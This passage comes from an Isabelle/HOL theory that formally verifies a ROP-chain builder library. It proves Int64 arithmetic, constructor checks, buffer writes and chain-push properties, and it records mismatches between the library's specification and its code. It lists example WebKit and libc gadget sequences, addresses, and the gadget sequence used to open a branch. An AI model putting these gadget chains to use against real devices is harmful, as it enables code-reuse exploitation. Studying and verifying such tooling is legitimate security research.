      "int64_val z = (int64_val a + int64_val n) mod 2 ^ 64"
    using Int64_add_val [OF assms(1) n(2)] by blast
  have "int64_val z = (int64_val a + - int64_val a) mod 2 ^ 64"
    unfolding z(3) n(3) by (simp add: mod_add_right_eq)
  then have "int64_val z = int64_val [0, 0, 0, 0, 0, 0, 0, 0 :: byte]"
    by (simp add: int64_val_def)
  then have z0: "z = [0, 0, 0, 0, 0, 0, 0, 0]"
    using z(2) by (intro int64_val_inj) (simp_all add: is_int64_def)
  show ?thesis
    using s d(1) n(1) z(1) da z0
    by (simp add: Int64_Zero_eq Int64_equals_def equals_loop_same)
qed

theorem Int64_arith_mod_2_64_witness:
  "is_int64 [255, 255, 255, 255, 255, 255, 255, 255] \<and> is_int64 [2, 1, 0, 0, 0, 0, 0, 0] \<and>
   Int64_add [255, 255, 255, 255, 255, 255, 255, 255] [JInt64 [2, 1, 0, 0, 0, 0, 0, 0]]
     = Inr [1, 1, 0, 0, 0, 0, 0, 0] \<and>
   int64_val [1, 1, 0, 0, 0, 0, 0, 0]
     = (int64_val [255, 255, 255, 255, 255, 255, 255, 255] + int64_val [2, 1, 0, 0, 0, 0, 0, 0])
         mod 2 ^ 64"
proof -
  have a: "is_int64 [255, 255, 255, 255, 255, 255, 255, 255]" by (simp add: is_int64_def)
  have b: "is_int64 [2, 1, 0, 0, 0, 0, 0, 0]" by (simp add: is_int64_def)
  have e: "Int64_add [255, 255, 255, 255, 255, 255, 255, 255] [JInt64 [2, 1, 0, 0, 0, 0, 0, 0]]
     = Inr [1, 1, 0, 0, 0, 0, 0, 0]" by code_simp
  show ?thesis using a b e Int64_arith_mod_2_64 [OF a b] by auto
qed

section \<open>Validation in the Int64 constructor\<close>

text \<open>
  C10. The Int64 constructor validates its input: no argument or more than two arguments
  throw a TypeError; with two arguments, an argument that is not a number throws a
  TypeError, and a number that is negative or exceeds \<open>0xffffffff\<close> throws a RangeError;
  an object that is not an Int64 and whose length is not 8 (an array of another length, an
  object without a length) throws a TypeError.
\<close>

theorem Int64_constructor_validation:
  "(length args = 0 \<or> length args > 2 \<longrightarrow>
      Int64_new args = Inl (TypeError ''Incorrect number of arguments to constructor'')) \<and>
   (typeof lo \<noteq> ''number'' \<or> typeof hi \<noteq> ''number'' \<longrightarrow>
      Int64_new [lo, hi] = Inl (TypeError ''Both arguments must be numbers'')) \<and>
   (num_lt l 0 \<or> num_lt h 0 \<or> num_gt l 0xffffffff \<or> num_gt h 0xffffffff \<longrightarrow>
      Int64_new [JNumber l, JNumber h]
        = Inl (RangeError ''Both arguments must fit inside a uint32'')) \<and>
   (length xs \<noteq> 8 \<longrightarrow>
      Int64_new [JArray xs] = Inl (TypeError ''Array must have excactly 8 elements.'')) \<and>
   Int64_new [JObject] = Inl (TypeError ''Array must have excactly 8 elements.'')"
proof (intro conjI impI)
  assume "length args = 0 \<or> length args > 2"
  then show "Int64_new args = Inl (TypeError ''Incorrect number of arguments to constructor'')"
    by (auto simp: Int64_new_def)
next
  assume "typeof lo \<noteq> ''number'' \<or> typeof hi \<noteq> ''number''"
  then show "Int64_new [lo, hi] = Inl (TypeError ''Both arguments must be numbers'')"
    by (cases lo; cases hi) (simp_all add: Int64_new_def)
next
  assume "num_lt l 0 \<or> num_lt h 0 \<or> num_gt l 0xffffffff \<or> num_gt h 0xffffffff"
  then show "Int64_new [JNumber l, JNumber h]
      = Inl (RangeError ''Both arguments must fit inside a uint32'')"
    by (auto simp: Int64_new_def)
next
  assume "length xs \<noteq> 8"
  then show "Int64_new [JArray xs] = Inl (TypeError ''Array must have excactly 8 elements.'')"
    by (simp add: Int64_new_def)
next
  show "Int64_new [JObject] = Inl (TypeError ''Array must have excactly 8 elements.'')"
    by (simp add: Int64_new_def)
qed

theorem Int64_constructor_validation_witness:
  "Int64_new [] = Inl (TypeError ''Incorrect number of arguments to constructor'') \<and>
   Int64_new [JString ''1'', JNumber (Finite 2)] = Inl (TypeError ''Both arguments must be numbers'') \<and>
   Int64_new [JNumber (Finite (- 1)), JNumber (Finite 0x100000000)]
     = Inl (RangeError ''Both arguments must fit inside a uint32'') \<and>
   Int64_new [JArray [Finite 1, Finite 2, Finite 3]]
     = Inl (TypeError ''Array must have excactly 8 elements.'')"
  using Int64_constructor_validation
    [where args = "[]" and lo = "JString ''1''" and hi = "JNumber (Finite 2)"
       and l = "Finite (- 1)" and h = "Finite 0x100000000"
       and xs = "[Finite 1, Finite 2, Finite 3]"]
  by simp

section \<open>Buffers: reading back what was written\<close>

lemma length_write_bytes [simp]: "length (write_bytes buf off bs) = length buf"
  by (induction bs arbitrary: buf off) simp_all

lemma length_write64 [simp]: "length (write64 buf off v) = length buf"
  by (simp add: write64_def)

lemma write_bytes_nth:
  "write_bytes buf off bs ! i =
     (if off \<le> i \<and> i < off + length bs \<and> i < length buf then bs ! (i - off) else buf ! i)"
proof (induction bs arbitrary: buf off)
  case Nil
  show ?case by auto
next
  case (Cons b bs)
  have "write_bytes (buf[off := b]) (Suc off) bs ! i =
     (if Suc off \<le> i \<and> i < Suc off + length bs \<and> i < length (buf[off := b])
      then bs ! (i - Suc off) else buf[off := b] ! i)"
    by (rule Cons.IH)
  then show ?case
    by (cases "i = off") (auto simp: nth_list_update nth_Cons' Suc_diff_Suc list_update_beyond not_less)
qed

lemma length_le_bytes_n [simp]: "length (le_bytes_n n v) = n"
  by (induction n arbitrary: v) simp_all

lemma length_le_bytes [simp]: "length (le_bytes v) = 8"
  by (simp add: le_bytes_def)

lemma word_of_le_le_bytes_n: "word_of_le (le_bytes_n n v) = take_bit (8 * n) v"
proof (induction n arbitrary: v)
  case 0
  show ?case by simp
next
  case (Suc n)
  have "ucast (ucast v :: byte) OR push_bit 8 (take_bit (8 * n) (drop_bit 8 v))
      = take_bit (8 * Suc n) v"
  proof (rule bit_word_eqI)
    fix k assume "k < LENGTH(64)"
    then show "bit (ucast (ucast v :: byte) OR push_bit 8 (take_bit (8 * n) (drop_bit 8 v))) k
        = bit (take_bit (8 * Suc n) v) k"
      by (cases "k < 8") (auto simp: bit_simps)
  qed
  then show ?case by (simp add: Suc.IH)
qed

lemma word_of_le_le_bytes: "word_of_le (le_bytes v) = v"
  by (simp add: le_bytes_def word_of_le_le_bytes_n take_bit_word_eq_self)

lemma take_drop_write_bytes:
  "off + length bs \<le> length buf \<Longrightarrow> take (length bs) (drop off (write_bytes buf off bs)) = bs"
  by (rule nth_equalityI) (simp_all add: write_bytes_nth)

lemma read64_write64_same:
  "int r = off \<Longrightarrow> r + 8 \<le> length buf \<Longrightarrow> read64 (write64 buf off v) r = v"
  using take_drop_write_bytes [of r "le_bytes v" buf]
  by (auto simp: read64_def write64_def word_of_le_le_bytes)


lemma pushed_fields [simp]:
  "position (pushed v s) = position s + 8"
  "stack (pushed v s) = write64 (stack s) (int (position s)) v"
  "is_stale (pushed v s) = is_stale s"
  "stack_addr (pushed v s) = stack_addr s"
  "retval_addr (pushed v s) = retval_addr s"
  "gadgets (pushed v s) = gadgets s"
  "syscall_map (pushed v s) = syscall_map s"
  "syscall_array (pushed v s) = syscall_array s"
  "is_branch_ctx (pushed v s) = is_branch_ctx s"
  "branch_position (pushed v s) =
     (if is_branch_ctx s then FNum (to_number (branch_position s) + 8) else branch_position s)"
  "delta_slot (pushed v s) = delta_slot s"
  "rsp_slot (pushed v s) = rsp_slot s"
  "rsp_position (pushed v s) = rsp_position s"
  "flag_addr (pushed v s) = flag_addr s"
  "jmp_target_p (pushed v s) = jmp_target_p s"
  "is_saved (pushed v s) = is_saved s"
  "jmp_buf_p (pushed v s) = jmp_buf_p s"
  "webcore_ta (pushed v s) = webcore_ta s"
  "vtable_p (pushed v s) = vtable_p s"
  "old_vtable_p (pushed v s) = old_vtable_p s"
  "target_log (pushed v s) = target_log s"
  by (simp_all add: pushed_def Let_def)

lemma push_value_iff:
  "push_value v s = Inr s' \<longleftrightarrow> position s + 8 \<le> length (stack s) \<and> s' = pushed v s"
  by (auto simp: push_value_def ChainBase_push_value_def pushed_def Let_def)

lemma push_value_ok:
  "position s + 8 \<le> length (stack s) \<Longrightarrow> push_value v s = Inr (pushed v s)"
  by (simp add: push_value_iff)

lemma run_ops_Cons_iff:
  "run_ops (f # fs) s = Inr s' \<longleftrightarrow> (\<exists>s1. f s = Inr s1 \<and> run_ops fs s1 = Inr s')"
  by (simp split: sum.splits)

lemma run_ops_Nil_iff: "run_ops [] s = Inr s' \<longleftrightarrow> s' = s"
  by auto

declare run_ops.simps [simp del]

lemma with_gadget_iff:
  "with_gadget k f s = Inr s' \<longleftrightarrow> (\<exists>a. gadgets s k = Some a \<and> f a s = Inr s')"
  by (simp add: with_gadget_def split: option.splits)

lemma push_gadget_iff:
  "push_gadget k s = Inr s' \<longleftrightarrow>
     (\<exists>a. gadgets s k = Some a \<and> position s + 8 \<le> length (stack s) \<and> s' = pushed a s)"
  by (simp add: push_gadget_def with_gadget_iff push_value_iff)

lemma push_constant_iff:
  "push_constant n s = Inr s' \<longleftrightarrow>
     position s + 8 \<le> length (stack s) \<and> s' = pushed (word_of_int n) s"
  by (simp add: push_constant_def push_value_iff)

lemma push_call1_iff:
  "push_call f [a] s = Inr s' \<longleftrightarrow>
     (\<exists>g. gadgets s ''pop rdi; ret'' = Some g \<and> position s + 24 \<le> length (stack s) \<and>
          s' = pushed f (pushed a (pushed g s)))"
  by (auto simp: push_call_def push_args_def argument_pops_def run_ops_Cons_iff run_ops_Nil_iff push_gadget_iff
        push_value_iff)

section \<open>The example session\<close>

lemma run_ops_step:
  "f s = Inr s1 \<Longrightarrow> run_ops (f # fs) s = run_ops fs s1"
  "f s = Inl e \<Longrightarrow> run_ops (f # fs) s = Inl e"
  by (simp_all add: run_ops.simps)

lemma new_chain_gadgets: "gadgets new_chain = init_gadgets 0x800000000 0x810000000"
  by (simp add: new_chain_def clean_branch_ctx_def ChainBase_new_def example_env_def)

lemma gadgets_pop_rdi: "init_gadgets 0x800000000 0x810000000 ''pop rdi; ret'' = Some 0x8001e3f87"
  by (simp add: init_gadgets_def webkit_gadget_offsets_def libc_gadget_offsets_def
      offset_libc_setjmp_def offset_libc_longjmp_def kjop1_def k2jop1_def jop1_def jop2_def
      jop3_def jop4_def ta_jop1_def ta_jop2_def ta_jop3_def)

lemma Chain803_new_example: "Chain803_new example_env = Inr new_chain"
  by (simp add: Chain803_new_def new_chain_def example_env_def
      init_gadgets_def webkit_gadget_offsets_def libc_gadget_offsets_def
      offset_libc_setjmp_def offset_libc_longjmp_def kjop1_def k2jop1_def jop1_def jop2_def
      jop3_def jop4_def jop5_def ta_jop1_def ta_jop2_def ta_jop3_def)

lemma new_chain_fields:
  "position new_chain = 0" "\<not> is_stale new_chain" "is_branch_ctx new_chain"
  "is_saved new_chain" "length (stack new_chain) = 4096" "target_log new_chain = []"
  "branch_position new_chain = FNull" "rsp_position new_chain = FNull"
  "delta_slot new_chain = FTrue" "stack_addr new_chain = 0x200000000"
  "retval_addr new_chain = 0x200002000" "jmp_buf_p new_chain = 0x200005000"
  by (simp_all add: new_chain_def clean_branch_ctx_def ChainBase_new_def example_env_def)

section \<open>Cleaning, saving and the frame of a push\<close>

lemma example_gadgets:
  "gadgets new_chain ''pop rax; ret'' = Some 0x800035a1b"
  "gadgets new_chain ''pop rdi; ret'' = Some 0x8001e3f87"
  "gadgets new_chain ''pop rsi; ret'' = Some 0x80003bd77"
  "gadgets new_chain ''pop rcx; ret'' = Some 0x800025ecb"
  "gadgets new_chain ''mov qword ptr [rdi], rax; ret'' = Some 0x80005b1bb"
  "gadgets new_chain ''mov qword ptr [rdi], rsi; ret'' = Some 0x800034a40"
  "gadgets new_chain ''mov rax, qword ptr [rax]; ret'' = Some 0x80002dc62"
  "gadgets new_chain ''ret'' = Some 0x800000032"
  "gadgets new_chain ''leave; ret'' = Some 0x800291fd7"
  "gadgets new_chain ''longjmp'' = Some 0x810029c58"
  "gadgets new_chain ''setjmp'' = Some 0x8100258f4"
  "gadgets new_chain ''neg rax; ret'' = Some 0x8100d3503"
  "gadgets new_chain ''adc esi, esi; ret'' = Some 0x80088cbb9"
  "gadgets new_chain ''neg rax; and rax, rcx; ret'' = Some 0x800e85f24"
  "gadgets new_chain ''add rcx, rsi; and rdx, rcx; or rax, rdx; ret'' = Some 0x800b8bc06"
  "gadgets new_chain ''mov rdx, rcx; ret'' = Some 0x800eae9fd"
  "gadgets new_chain ''add rax, rdx; ret'' = Some 0x8003cd92c"
  "gadgets new_chain ''mov rdx, rax; xor eax, eax; shl rdx, cl; ret'' = Some 0x8100ce436"
  "gadgets new_chain ''pop rdi; jmp qword ptr [rax + 0x50]'' = Some 0x8021f9e8e"
  by (simp_all add: new_chain_gadgets init_gadgets_def webkit_gadget_offsets_def
      libc_gadget_offsets_def offset_libc_setjmp_def offset_libc_longjmp_def kjop1_def
      k2jop1_def jop1_def jop2_def jop3_def jop4_def ta_jop1_def ta_jop2_def ta_jop3_def)

text \<open>
  C1. After \<open>clean()\<close> the position is 0 and \<open>is_stale\<close> is false; the specification
  adds that no branch context is open then: \<open>check_is_branching()\<close> does not throw and a
  following \<open>start_branch()\<close> is permitted. In the code \<open>_clean_branch_ctx()\<close> sets
  \<open>is_branch_ctx\<close> to true, so after \<open>clean()\<close> on any chain \<open>check_is_branching()\<close>
  throws and \<open>start_branch()\<close> is refused.
\<close>

theorem clean_leaves_branch_context_open:
  "position (clean s) = 0 \<and> \<not> is_stale (clean s) \<and> is_branch_ctx (clean s) \<and>
   check_is_branching (clean s)
     = Inl (Error ''chain is still branching, end it before running'', clean s) \<and>
   start_branch (clean s) = Inl (Error ''chain already branching, end it first'', clean s)"
  by (simp add: clean_def clean_branch_ctx_def ChainBase_clean_def check_is_branching_def
      start_branch_def)

text \<open>
  C3. By the specification \<open>push_save()\<close> throws only while an earlier save is
  unmatched, and the first save on a new or cleaned chain succeeds. In the code the constructor and
  \<open>clean()\<close> set \<open>is_saved\<close> to true, so the first \<open>push_save()\<close> on the chain that
  \<open>new Chain803()\<close> returns, and on every cleaned chain, throws.
\<close>

theorem push_save_on_new_chain_throws:
  "Chain803_new example_env = Inr new_chain \<and>
   push_save new_chain = Inl (Error ''restore first before saving again'', new_chain) \<and>
   push_save (clean s) = Inl (Error ''restore first before saving again'', clean s)"
  by (simp add: Chain803_new_example push_save_def new_chain_fields clean_def)

lemma extends_refl: "extends s s"
  by (simp add: extends_def)

lemma extends_trans: "extends a b \<Longrightarrow> extends b c \<Longrightarrow> extends a c"
  by (auto simp: extends_def split: if_splits)

lemma extends_pushed: "extends s (pushed v s)"
  by (simp add: extends_def)

lemma push_value_extends: "push_value v s = Inr s' \<Longrightarrow> extends s s'"
  by (simp add: push_value_iff extends_pushed)

lemma push_gadget_extends: "push_gadget k s = Inr s' \<Longrightarrow> extends s s'"
  by (auto simp: push_gadget_iff extends_pushed)

lemma push_constant_extends: "push_constant n s = Inr s' \<Longrightarrow> extends s s'"
  by (simp add: push_constant_iff extends_pushed)

lemma run_ops_extends:
  assumes "\<And>f t t'. f \<in> set fs \<Longrightarrow> f t = Inr t' \<Longrightarrow> extends t t'"
  shows "run_ops fs s = Inr s' \<Longrightarrow> extends s s'"
  using assms
proof (induction fs arbitrary: s)
  case Nil
  then show ?case by (simp add: run_ops_Nil_iff extends_refl)
next
  case (Cons f fs)
  from Cons.prems(1) obtain s1 where 1: "f s = Inr s1" and 2: "run_ops fs s1 = Inr s'"
    by (auto simp: run_ops_Cons_iff)
  have "extends s s1" by (rule Cons.prems(2) [of f]) (simp_all add: 1)
  moreover have "extends s1 s'"
  proof (rule Cons.IH [OF 2])
    fix g t t' assume "g \<in> set fs" "g t = Inr t'"
    then show "extends t t'" by (intro Cons.prems(2) [of g]) simp_all
  qed
  ultimately show ?case by (rule extends_trans)
qed

lemma run_ops_append_iff:
  "run_ops (xs @ ys) s = Inr s' \<longleftrightarrow> (\<exists>m. run_ops xs s = Inr m \<and> run_ops ys m = Inr s')"
  by (induction xs arbitrary: s) (simp_all add: run_ops_Nil_iff run_ops_Cons_iff, blast)

lemma pushes_extend:
  assumes "run_ops fs s = Inr s'"
    and "\<And>f. f \<in> set fs \<Longrightarrow>
       (\<exists>k. f = push_gadget k) \<or> (\<exists>n. f = push_constant n) \<or>
       (\<exists>g. f = (\<lambda>s. push_value (g s) s))"
  shows "extends s s'"
proof (rule run_ops_extends [OF _ assms(1)])
  fix f t t' assume "f \<in> set fs" "f t = Inr t'"
  with assms(2) [of f] show "extends t t'"
    by (auto dest: push_gadget_extends push_constant_extends push_value_extends)
qed

lemma start_branch_Inr:
  assumes "start_branch s = Inr s1"
  shows "\<not> is_branch_ctx s \<and> is_branch_ctx s1 \<and> rsp_position s1 = branch_position s1 \<and>
     (\<exists>d. delta_slot s1 = FNum (int d) \<and> position s \<le> d \<and> d + 8 \<le> position s1 \<and>
          d + 8 \<le> length (stack s1)) \<and>
     length (stack s1) = length (stack s) \<and> gadgets s1 = gadgets s"
proof -
  define A where "A =
        [push_gadget ''pop rcx; ret'',
         push_constant (- 1),
         push_gadget ''neg rax; ret'',
         push_gadget ''pop rsi; ret'',
         push_constant 0,
         push_gadget ''adc esi, esi; ret'',
         push_gadget ''pop rdi; ret'',
         push_flag_addr,
         push_gadget ''mov qword ptr [rdi], rsi; ret'',
         push_gadget ''pop rax; ret'',
         push_flag_addr,
         push_gadget ''mov rax, qword ptr [rax]; ret'',
         push_gadget ''pop rcx; ret'']"
  define B where "B =
        [push_constant 0,
         push_gadget ''neg rax; and rax, rcx; ret'',
         push_gadget ''pop rdi; ret'',
         push_flag_addr,
         push_gadget ''mov qword ptr [rdi], rax; ret'',
         push_gadget ''pop rcx; ret'']"
  define C where "C =
        [push_constant 0,
         push_gadget ''pop rsi; ret'',
         (\<lambda>s. push_value (stack_addr s + word_of_int (int (position s) + 8)) s)]"
  define D where "D =
        [push_gadget ''add rcx, rsi; and rdx, rcx; or rax, rdx; ret'',
         push_gadget ''mov rdx, rcx; ret'',
         push_gadget ''pop rax; ret'',
         push_flag_addr,
         push_gadget ''mov rax, qword ptr [rax]; ret'',
         push_gadget ''add rax, rdx; ret'',
         push_gadget ''pop rdi; ret'',
         push_flag_addr,
         push_gadget ''mov qword ptr [rdi], rax; ret'',
         push_gadget ''pop rcx; ret'',
         push_constant 0,
         push_gadget ''mov rdx, rax; xor eax, eax; shl rdx, cl; ret'',
         push_gadget ''pop rax; ret'',
         (\<lambda>s. push_value (jmp_target_p s) s),
         push_gadget ''pop rdi; jmp qword ptr [rax + 0x50]'',
         push_constant 0]"
  have nb: "\<not> is_branch_ctx s" using assms by (auto simp: start_branch_def split: if_splits)
  have flag: "push_flag_addr = (\<lambda>s. push_value (flag_addr s) s)"
    by (rule ext) (simp add: push_flag_addr_def)
  have run: "run_ops (A @ [\<lambda>s. Inr (s\<lparr>delta_slot := FNum (int (position s))\<rparr>)] @ B
       @ [\<lambda>s. Inr (s\<lparr>rsp_slot := FNum (int (position s))\<rparr>)] @ C
       @ [\<lambda>s. Inr (s\<lparr>branch_position := FNum 0, is_branch_ctx := True\<rparr>)] @ D
       @ [\<lambda>s. Inr (s\<lparr>rsp_position := branch_position s\<rparr>),
          \<lambda>s. Inr (s\<lparr>stack := write64 (stack s) (to_number (rsp_slot s))
                                  (word_of_int (to_number (rsp_position s)))\<rparr>)]) s = Inr s1"
    using assms nb by (simp add: start_branch_def A_def B_def C_def D_def)
  then obtain m1 m2 m3 m4 where
        A: "run_ops A s = Inr m1"
    and B: "run_ops B (m1\<lparr>delta_slot := FNum (int (position m1))\<rparr>) = Inr m2"
    and C: "run_ops C (m2\<lparr>rsp_slot := FNum (int (position m2))\<rparr>) = Inr m3"
    and D: "run_ops D (m3\<lparr>branch_position := FNum 0, is_branch_ctx := True\<rparr>) = Inr m4"
    and s1: "s1 = m4\<lparr>rsp_position := branch_position m4,
                     stack := write64 (stack m4) (to_number (rsp_slot m4))
                                (word_of_int (to_number (branch_position m4)))\<rparr>"
    by (auto simp: run_ops_append_iff run_ops_Cons_iff run_ops_Nil_iff)
  have eA: "extends s m1"
    by (rule pushes_extend [OF A]) (auto simp: A_def flag)
  have eB: "extends (m1\<lparr>delta_slot := FNum (int (position m1))\<rparr>) m2"
    by (rule pushes_extend [OF B]) (auto simp: B_def flag)
  have eC: "extends (m2\<lparr>rsp_slot := FNum (int (position m2))\<rparr>) m3"
    by (rule pushes_extend [OF C]) (auto simp: C_def flag)
  have eD: "extends (m3\<lparr>branch_position := FNum 0, is_branch_ctx := True\<rparr>) m4"
    by (rule pushes_extend [OF D]) (auto simp: D_def flag)
  obtain b where b: "push_constant 0 (m1\<lparr>delta_slot := FNum (int (position m1))\<rparr>) = Inr b"
    using B by (auto simp: B_def run_ops_Cons_iff)
  then have room: "position m1 + 8 \<le> length (stack m1)" and "b = pushed 0 (m1\<lparr>delta_slot := FNum (int (position m1))\<rparr>)"
    by (simp_all add: push_constant_iff)
  moreover have "extends b m2"
  proof -
    have "run_ops (tl B) b = Inr m2" using B b by (simp add: B_def run_ops_Cons_iff)
    then show ?thesis by (rule pushes_extend) (auto simp: B_def flag)
  qed
  ultimately have pos: "position m1 + 8 \<le> position m2" by (simp add: extends_def)
  show ?thesis
    using nb eA eB eC eD room pos unfolding s1
    by (auto simp: extends_def)
qed

section \<open>Branch delta\<close>

lemma in_push_args:
  "f \<in> set (push_args args) \<Longrightarrow> (\<exists>k. f = push_gadget k) \<or> (\<exists>a. f = push_value a)"
  by (auto simp: push_args_def)

lemma push_call_extends: "push_call f args s = Inr s' \<Longrightarrow> extends s s'"
proof -
  assume "push_call f args s = Inr s'"
  then have "run_ops (push_args args @ [push_value f]) s = Inr s'"
    by (simp add: push_call_def split: if_splits)
  then show ?thesis
    by (rule run_ops_extends [rotated])
       (auto dest: in_push_args push_gadget_extends push_value_extends)
qed

lemma push_syscall_extends: "push_syscall name args s = Inr s' \<Longrightarrow> extends s s'"
proof -
  assume "push_syscall name args s = Inr s'"
  then obtain sysno trampoline where
    "run_ops ([push_gadget ''pop rax; ret'', push_constant (int sysno)]
                @ push_args args @ [push_value trampoline]) s = Inr s'"
    by (auto simp: push_syscall_def split: option.splits if_splits)
  then show ?thesis
    by (rule run_ops_extends [rotated])
       (auto dest: in_push_args push_gadget_extends push_value_extends push_constant_extends)
qed

lemma push_write64_extends: "push_write64 a v s = Inr s' \<Longrightarrow> extends s s'"
  unfolding push_write64_def
  by (rule run_ops_extends [rotated])
     (auto dest: push_gadget_extends push_value_extends)

lemma push_get_retval_extends: "push_get_retval s = Inr s' \<Longrightarrow> extends s s'"
  unfolding push_get_retval_def
  by (rule run_ops_extends [rotated])
     (auto dest: push_gadget_extends push_value_extends)

lemma push_end_extends: "push_end s = Inr s' \<Longrightarrow> extends s s'"
  by (simp add: push_end_def push_gadget_extends)

lemma with_gadget_extends:
  "with_gadget k f s = Inr s' \<Longrightarrow> (\<And>a t t'. f a t = Inr t' \<Longrightarrow> extends t t') \<Longrightarrow> extends s s'"
  by (auto simp: with_gadget_iff)

lemma push_save_extends: "push_save s = Inr s' \<Longrightarrow> extends s s'"
proof -
  assume "push_save s = Inr s'"
  then have "run_ops
        [with_gadget ''setjmp'' (\<lambda>a s. push_call a [jmp_buf_p s] s),
         (\<lambda>s. Inr (s\<lparr>is_saved := True\<rparr>))] s = Inr s'"
    by (simp add: push_save_def split: if_splits)
  then show ?thesis
    by (rule run_ops_extends [rotated])
       (auto simp: extends_def [of _ "_\<lparr>is_saved := True\<rparr>"]
             elim!: with_gadget_extends dest: push_call_extends)
qed

lemma push_restore_extends: "push_restore is_force s = Inr s' \<Longrightarrow> extends s s'"
proof -
  assume "push_restore is_force s = Inr s'"
  then obtain s1 where 1: "push_gadget ''pop rax; ret'' s = Inr s1"
    and 2: "run_ops
                [push_constant 0,
                 push_gadget ''pop rdi; ret'',
                 (\<lambda>s. push_value (jmp_buf_p s + 0x39) s),
                 push_gadget ''mov qword ptr [rdi], rax; ret'',
                 push_gadget ''pop rax; ret'',
                 with_gadget ''ret'' push_value,
                 push_gadget ''pop rdi; ret'',
                 (\<lambda>s. push_value (jmp_buf_p s + 0x80) s),
                 push_gadget ''mov qword ptr [rdi], rax; ret'',
                 with_gadget ''longjmp'' (\<lambda>a s. push_call a [jmp_buf_p s] s),
                 push_constant 0,
                 push_constant 0,
                 (\<lambda>s. Inr (s\<lparr>stack := write64 (stack s) (int (position s1))
                                          (stack_addr s + word_of_int (int (position s)))\<rparr>)),
                 (\<lambda>s. Inr (s\<lparr>is_saved := True\<rparr>))] s1 = Inr s'"
    by (auto simp: push_restore_def Let_def split: if_splits sum.splits)
  have "extends s1 s'"
    by (rule run_ops_extends [OF _ 2])
       (auto simp: extends_def [of _ "_\<lparr>is_saved := True\<rparr>"]
                   extends_def [of _ "_\<lparr>stack := _\<rparr>"]
             elim!: with_gadget_extends
             dest: push_call_extends push_gadget_extends push_value_extends push_constant_extends)
  with push_gadget_extends [OF 1] show ?thesis by (rule extends_trans)
qed

lemma do_push_extends: "do_push op s = Inr s' \<Longrightarrow> extends s s'"
  by (cases op)
     (auto dest: push_gadget_extends push_constant_extends push_value_extends push_call_extends
        push_syscall_extends push_write64_extends push_get_retval_extends push_end_extends
        push_save_extends push_restore_extends)

lemma push_all_extends: "push_all ops s = Inr s' \<Longrightarrow> extends s s'"
  unfolding push_all_def
  by (rule run_ops_extends [rotated]) (auto dest: do_push_extends)

text \<open>
  The arithmetic of the delta, on a chain whose flag \<open>is_branch_ctx\<close> is not set, which
  no chain that the code builds is (\<open>built_flag\<close> below): if \<open>start_branch()\<close> returns
  and a body of push operations follows, \<open>end_branch()\<close> writes into the delta slot the
  number of bytes the body appended.
\<close>

lemma delta_of_started_branch:
  assumes "start_branch s = Inr s1" and "push_all body s1 = Inr s2"
  shows "\<exists>d s3. delta_slot s1 = FNum (int d) \<and> end_branch s2 = Inr s3 \<and>
           position s1 \<le> position s2 \<and>
           read64 (stack s3) d = word_of_int (int (position s2) - int (position s1))"
proof -
  from start_branch_Inr [OF assms(1)] obtain d where
        br: "is_branch_ctx s1" and rp: "rsp_position s1 = branch_position s1"
    and d: "delta_slot s1 = FNum (int d)" "d + 8 \<le> length (stack s1)"
    by blast
  have ext: "extends s1 s2" using assms(2) by (rule push_all_extends)
  have br2: "is_branch_ctx s2" and d2: "delta_slot s2 = FNum (int d)"
    and len2: "d + 8 \<le> length (stack s2)" and le: "position s1 \<le> position s2"
    and delta: "to_number (branch_position s2) - to_number (rsp_position s2)
                  = int (position s2) - int (position s1)"
    using ext br rp d by (simp_all add: extends_def)
  define s3 where "s3 = clean_branch_ctx
      (s2\<lparr>stack := write64 (stack s2) (int d)
                      (word_of_int (int (position s2) - int (position s1)))\<rparr>)"
  have "end_branch s2 = Inr s3"
    using br2 d2 delta by (simp add: end_branch_def Let_def s3_def)
  moreover have "read64 (stack s3) d = word_of_int (int (position s2) - int (position s1))"
    using len2 by (simp add: s3_def clean_branch_ctx_def read64_write64_same)
  ultimately show ?thesis using d(1) le by blast
qed

section \<open>Branch contexts of the chains the code builds\<close>

lemma keeps_flag_run_ops:
  assumes "\<And>f. f \<in> set fs \<Longrightarrow> keeps_flag f"
  shows "keeps_flag (run_ops fs)"
  using assms
proof (induction fs)
  case Nil
  show ?case by (simp add: keeps_flag_def run_ops.simps)
next
  case (Cons f fs)
  have f: "keeps_flag f" and fs: "keeps_flag (run_ops fs)"
    using Cons by simp_all
  show ?case
    unfolding keeps_flag_def
  proof (intro allI impI)
    fix s :: chain assume s: "is_branch_ctx s"
    show "is_branch_ctx (res_chain (run_ops (f # fs) s))"
    proof (cases "f s")
      case (Inl x)
      with f s show ?thesis by (auto simp: keeps_flag_def run_ops.simps)
    next
      case (Inr s1)
      with f s have "is_branch_ctx s1" by (auto simp: keeps_flag_def)
      with fs Inr show ?thesis by (simp add: keeps_flag_def run_ops.simps)
    qed
  qed
qed

lemma keeps_flag_push_value: "keeps_flag (\<lambda>s. push_value (g s) s)"
  by (simp add: keeps_flag_def push_value_def ChainBase_push_value_def)

lemma keeps_flag_push_value': "keeps_flag (push_value v)"
  using keeps_flag_push_value [of "\<lambda>_. v"] by simp

lemma keeps_flag_with_gadget:
  "(\<And>a. keeps_flag (f a)) \<Longrightarrow> keeps_flag (with_gadget k f)"
  by (auto simp: keeps_flag_def with_gadget_def split: option.splits)

lemma keeps_flag_push_gadget: "keeps_flag (push_gadget k)"
  unfolding push_gadget_def by (rule keeps_flag_with_gadget) (rule keeps_flag_push_value')

lemma keeps_flag_push_constant: "keeps_flag (push_constant n)"
  by (simp add: push_constant_def keeps_flag_push_value')

lemma keeps_flag_update:
  "(\<And>s. is_branch_ctx s \<Longrightarrow> is_branch_ctx (u s)) \<Longrightarrow> keeps_flag (\<lambda>s. Inr (u s))"
  by (simp add: keeps_flag_def)

lemma keeps_flag_guard:
  "keeps_flag f \<Longrightarrow> keeps_flag (\<lambda>s. if c s then Inl (e, s) else f s)"
  by (simp add: keeps_flag_def)

lemmas keeps_flag_basic =
  keeps_flag_push_value keeps_flag_push_value' keeps_flag_push_gadget keeps_flag_push_constant

lemma keeps_flag_push_call: "keeps_flag (push_call f args)"
proof -
  have "keeps_flag (run_ops (push_args args @ [push_value f]))"
    by (rule keeps_flag_run_ops) (auto dest: in_push_args simp: keeps_flag_basic)
  then show ?thesis by (simp add: keeps_flag_def push_call_def)
qed

lemma keeps_flag_push_call': "keeps_flag (\<lambda>s. push_call f [g s] s)"
  using keeps_flag_push_call by (simp add: keeps_flag_def)

lemma keeps_flag_push_syscall: "keeps_flag (push_syscall name args)"
proof -
  have "keeps_flag (run_ops ([push_gadget ''pop rax; ret'', push_constant n]
                              @ push_args args @ [push_value t]))" for n t
